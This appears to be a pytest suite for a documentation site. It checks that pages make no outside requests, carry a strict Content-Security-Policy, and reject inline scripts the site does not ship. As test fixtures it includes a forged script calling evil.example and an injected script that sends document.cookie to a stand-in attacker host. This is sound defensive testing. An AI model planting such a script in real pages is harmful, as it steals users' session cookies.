"""Private by default: no request leaves the site, served or from disk, and every page
carries a policy that lets only the site's own files run."""
from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import material
import pytest
from conftest import ERROR_PAGES, ROOT, html_pages, page_file, reading_folder, search_ready, site_pages

from macros.readings import READINGS

pytestmark = pytest.mark.browser
EVERY_PAGE = [url for _, url in site_pages()] + list(ERROR_PAGES)


def test_no_page_requests_anything_outside_the_site(browser, site_url):
    context = browser.new_context()
    page = context.new_page()
    requests, blocked = [], []
    page.on("request", lambda request: requests.append(request.url))
    page.on("console", lambda message: blocked.append(message.text) if "Content Security Policy" in message.text else None)
    for url in EVERY_PAGE:
        page.goto(f"{site_url}/{url}")
        page.wait_for_load_state("networkidle")
    context.close()
    assert [u for u in requests if not u.startswith(site_url + "/")] == []
    assert blocked == []


def test_every_page_of_the_offline_bundle_stays_inside_its_folder(browser, bundle):
    folder = bundle.resolve()
    context = browser.new_context()
    outside, csp = [], []
    context.route("**/*", lambda route: route.continue_() if route.request.url.startswith(folder.as_uri() + "/")
                  else (outside.append(route.request.url), route.abort()))
    page = context.new_page()
    page.on("console", lambda message: csp.append(message.text) if "Content Security Policy" in message.text else None)
    paths = [p.relative_to(folder).as_posix() for p in html_pages(folder)]
    for path in paths:
        page.goto((folder / path).as_uri())
    for reading in READINGS[1:]:  # each Chinese reading's search, which runs from disk in a frame
        page.goto((folder / reading_folder(reading) / "index.html").as_uri())
        page.locator(".md-search__input").click()
        search_ready(page)
    context.close()
    assert len(paths) == len(site_pages(directory_urls=False))
    assert outside == [] and csp == []


def test_every_page_has_a_policy_that_allows_only_the_site(built_site):
    for url in EVERY_PAGE:
        source = (built_site / page_file(url)).read_text(encoding="utf-8")
        policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', source).group(1)
        directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
        assert directives["default-src"] == "'self'"
        assert set(directives["script-src"].split()) - {"'self'"} <= set(re.findall(r"'sha256-[^']+'", policy))
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy
        assert directives["style-src"] == "'self'" and directives["font-src"] == "'self'"
        # data: images only for the theme's stylesheet icons (macros/site/security_policy.py)
        assert directives["img-src"] in ("'self'", "'self' data:")
        assert directives["object-src"] == "'none'" and directives["base-uri"] == "'none'"
        assert directives["form-action"] == "'none'"


def test_an_injected_inline_script_is_refused(page, site_url, built_site):
    messages = []
    page.on("console", lambda message: messages.append(message.text))
    page.goto(f"{site_url}/tools/")
    page.evaluate("""() => { const s = document.createElement('script'); s.textContent = 'window.__injected = 1';
                            document.body.appendChild(s); }""")
    assert page.evaluate("window.__injected") is None
    assert any("Content Security Policy" in m for m in messages)


def test_only_the_scripts_the_site_ships_are_allowed(built_site):
    from macros.site.security_policy import inline_scripts, is_known_script, script_hash
    from macros.site.theme import INLINE_SCRIPT_TEMPLATES

    dirs = (ROOT / "overrides", Path(material.__file__).parent / "templates")
    seen = set()
    for url in EVERY_PAGE:
        source = (built_site / page_file(url)).read_text(encoding="utf-8")
        policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', source).group(1)
        for body in inline_scripts(source):
            assert is_known_script(body, dirs) and script_hash(body) in policy
            seen.add(body)
    assert len(seen) >= len(INLINE_SCRIPT_TEMPLATES)
    real = next(body for body in seen if "__md_scope" in body)
    forged = re.sub(r'new URL\("[^"]*"', 'new URL(""+fetch("//evil.example")+""', real)
    assert forged != real and not is_known_script(forged, dirs)
    assert not is_known_script("alert(1)", dirs)
    assert not is_known_script(real + ";alert(1)", dirs)


def test_an_inline_script_in_a_page_fails_the_build_even_without_the_checks(project):
    page = project / "docs/en/support.md"
    page.write_text(page.read_text(encoding="utf-8") + '\n<script>fetch("https://evil.example/?c="+document.cookie)</script>\n',
                    encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "-q", "-d", str(project / "out")],
                            cwd=project, capture_output=True, text=True)
    assert result.returncode != 0
    assert "en/support.md: an inline script the site does not ship: fetch(" in result.stdout + result.stderr
